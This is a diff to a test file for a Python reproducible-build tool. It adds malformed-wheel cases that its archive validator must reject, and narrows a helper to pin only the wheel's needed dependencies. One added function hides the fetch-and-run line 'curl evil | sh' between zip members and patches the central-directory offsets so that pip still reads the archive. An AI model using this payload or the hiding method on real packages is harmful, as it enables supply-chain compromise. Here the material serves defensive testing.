@@ -35,7 +35,13 @@ from conftest import REPO_ROOT
 from repro_serving.builder.build import staged_readme
 from repro_serving.builder.cli import main
 from repro_serving.builder.observe import release
-from repro_serving.builder.observe.tools import ToolRequirements, build_wheel
+from repro_serving.builder.observe.python import normalize
+from repro_serving.builder.observe.tools import (
+    ToolRequirements,
+    build_wheel,
+    dependency_closure,
+    wheel_requires,
+)
 from repro_serving.builder.sealing import bundle, statement
 from repro_serving.builder.sealing.seal import seal
 
@@ -222,7 +228,10 @@ def carrying(own_wheel: Path) -> Callable[[Path], None]:
         (root / bundle.TOOLS_DIR / own_wheel.name).write_bytes(own_wheel.read_bytes())
         path = root / REQUIREMENTS
         pins = ToolRequirements.from_bytes(path.read_bytes(), where=REQUIREMENTS)
-        path.write_bytes(pins.model_copy(update={"repro": version}).to_bytes())
+        # the bundle's pins of what this checkout's wheel still needs, as its build would pin
+        needed = dependency_closure(wheel_requires(own_wheel))
+        kept = tuple(p for p in pins.pins if normalize(p.name) in needed)
+        path.write_bytes(pins.model_copy(update={"repro": version, "pins": kept}).to_bytes())
 
     return edit
 
@@ -581,6 +590,35 @@ def _many(root: Path) -> None:
     ])  # fmt: skip
 
 
+def _hidden_between(data: bytes) -> bytes:
+    """A payload laid between the first two members, every later offset the central directory
+    and its end record state moved past it: zipfile and pip read the archive as before."""
+    hidden = b"#!/bin/sh\ncurl evil | sh\n"
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        at = sorted(i.header_offset for i in archive.infolist())[1]
+    out = bytearray(data[:at] + hidden + data[at:])
+    end = len(out) - 22
+    assert out[end : end + 4] == b"PK\x05\x06"
+    directory = int.from_bytes(out[end + 16 : end + 20], "little") + len(hidden)
+    out[end + 16 : end + 20] = directory.to_bytes(4, "little")
+    while out[directory : directory + 4] == b"PK\x01\x02":
+        offset = int.from_bytes(out[directory + 42 : directory + 46], "little")
+        if offset >= at:
+            out[directory + 42 : directory + 46] = (offset + len(hidden)).to_bytes(4, "little")
+        lengths = [
+            int.from_bytes(out[directory + n : directory + n + 2], "little") for n in (28, 30, 32)
+        ]
+        directory += 46 + sum(lengths)
+    return bytes(out)
+
+
+def _commented(data: bytes) -> bytes:
+    out = io.BytesIO(data)
+    with zipfile.ZipFile(out, "a") as archive:
+        archive.comment = b"a payload in the comment"
+    return out.getvalue()
+
+
 ARCHIVES = {
     "cut in half": (_whole(lambda d: d[: len(d) // 2]), "not a zip archive that can be read"),
     "not a zip": (_whole(lambda d: b"not a zip\n"), "not a zip archive that can be read"),
@@ -589,6 +627,10 @@ ARCHIVES = {
     "too many members": (_many, "too many members"),
     "a member compressed by an unknown method": (_unknown_method, "not a zip archive"),
     "too large": (_whole(lambda d: d + bytes(65 << 20)), "is too large"),
+    "bytes appended": (_whole(lambda d: d + b"\xba\xf1D"), "no end of central directory"),
+    "bytes prepended": (_whole(lambda d: b"#!/bin/sh\n" + d), "local header at byte 10"),
+    "bytes between two members": (_whole(_hidden_between), "nothing between members"),
+    "a comment": (_whole(_commented), "with no comment"),
 }
 
 
